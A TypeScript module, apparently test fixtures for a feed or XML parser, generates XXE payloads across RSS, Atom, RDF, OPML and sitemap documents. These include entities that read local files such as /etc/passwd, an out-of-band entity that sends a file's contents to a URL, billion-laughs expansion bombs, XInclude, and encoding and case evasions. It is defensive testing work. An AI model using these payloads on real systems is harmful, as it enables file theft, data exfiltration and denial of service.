/** A document that asks its reader to fetch, to open a file or to grow. */
export interface XmlPayload {
  readonly name: string;
  readonly bytes: Uint8Array;
}

/** What an entity that is followed turns into. */
export const EXPANDED = "expanded-by-the-reader";

interface Kind {
  readonly name: string;
  /** The document with something before its root, and something where its first title stands. */
  readonly make: (prolog: string, words: string) => string;
}

const KINDS: readonly Kind[] = [
  {
    name: "RSS",
    make: (prolog, words) =>
      `${prolog}<rss version="2.0"><channel><title>${words}</title><item><title>${words}</title><link>http://post.org/1</link></item></channel></rss>`,
  },
  {
    name: "Atom",
    make: (prolog, words) =>
      `${prolog}<feed xmlns="http://www.w3.org/2005/Atom"><title>${words}</title><entry><title>${words}</title><link href="http://post.org/1"/></entry></feed>`,
  },
  {
    name: "RDF",
    make: (prolog, words) =>
      `${prolog}<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><channel><title>${words}</title></channel><item><title>${words}</title><link>http://post.org/1</link></item></rdf:RDF>`,
  },
  {
    name: "a reading list",
    make: (prolog, words) =>
      `${prolog}<opml version="2.0"><head><title>${words}</title></head><body><outline text="${words}" type="rss" xmlUrl="http://post.org/feed?${words}"/></body></opml>`,
  },
  {
    name: "a sitemap",
    make: (prolog, words) => `${prolog}<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>http://post.org/${words}</loc></url></urlset>`,
  },
];

/** "lol" ten times, ten times over, and so on. */
const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join("");

/** Ways to ask, each in every kind of document; `file` and `url` are canaries that nobody may read. */
export function xmlPayloads(file: string, url: string): readonly XmlPayload[] {
  const tricks: readonly (readonly [name: string, prolog: string, words: string])[] = [
    ["an entity of its own", `<!DOCTYPE x [<!ENTITY e "${EXPANDED}">]>`, "&e;"],
    ["a file", `<!DOCTYPE x [<!ENTITY e SYSTEM "file://${file}">]>`, "&e;"],
    ["an address", `<!DOCTYPE x [<!ENTITY e SYSTEM "${url}entity">]>`, "&e;"],
    ["a public entity", `<!DOCTYPE x [<!ENTITY e PUBLIC "-//A//B//EN" "${url}public">]>`, "&e;"],
    ["a definition elsewhere", `<!DOCTYPE x SYSTEM "${url}definition">`, "&e;"],
    ["a parameter entity", `<!DOCTYPE x [<!ENTITY % p SYSTEM "${url}parameter"> %p;]>`, "&e;"],
    ["a file sent to an address", `<!DOCTYPE x [<!ENTITY % f SYSTEM "file://${file}"><!ENTITY % s "<!ENTITY e SYSTEM '${url}?%f;'>"> %s;]>`, "&e;"],
    ["a billion laughs", `<!DOCTYPE x [<!ENTITY l0 "${EXPANDED}">${laughs}]>`, "&l9;"],
    ["one long entity many times", `<!DOCTYPE x [<!ENTITY e "${EXPANDED.repeat(200)}">]>`, "&e;".repeat(2_000)],
    ["an entity that holds itself", `<!DOCTYPE x [<!ENTITY a "&b;${EXPANDED}"><!ENTITY b "&a;">]>`, "&a;"],
    ["an inclusion", "", `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${file}" parse="text"/>`],
    ["a style sheet", `<?xml-stylesheet type="text/xsl" href="${url}style"?>`, "flood"],
  ];
  const plain = KINDS.flatMap((kind) =>
    tricks
      // markup does not stand in an attribute
      .filter(([, , words]) => !(words.startsWith("<") && kind.name === "a reading list"))
      .map(([name, prolog, words]) => ({ name: `${name} in ${kind.name}`, bytes: Buffer.from(kind.make(`<?xml version="1.0"?>${prolog}`, words)) })),
  );
  const [rss] = KINDS as [Kind];
  const dtd = `<!DOCTYPE x [<!ENTITY e "${EXPANDED}"><!ENTITY f SYSTEM "file://${file}">]>`;
  const utf16 = Buffer.from(`\ufeff${rss.make(`<?xml version="1.0" encoding="utf-16"?>${dtd}`, "&e;&f;")}`, "utf16le");
  return [
    ...plain,
    { name: "an entity in UTF-16", bytes: utf16 },
    { name: "an entity in UTF-16, the other way round", bytes: Buffer.from(utf16).swap16() },
    { name: "an entity behind a comment", bytes: Buffer.from(rss.make(`<?xml version="1.0"?><!-- > -->${dtd}`, "&e;&f;")) },
    { name: "an entity in small letters", bytes: Buffer.from(rss.make(dtd.replace("DOCTYPE", "doctype"), "&e;&f;")) },
    {
      name: "an entity behind an old document type",
      bytes: Buffer.from(
        rss.make(
          '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/rss.dtd" [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
          "&e;",
        ),
      ),
    },
    { name: "a definition within the channel", bytes: Buffer.from(rss.make("", `${dtd}&e;&f;`)) },
  ];
}
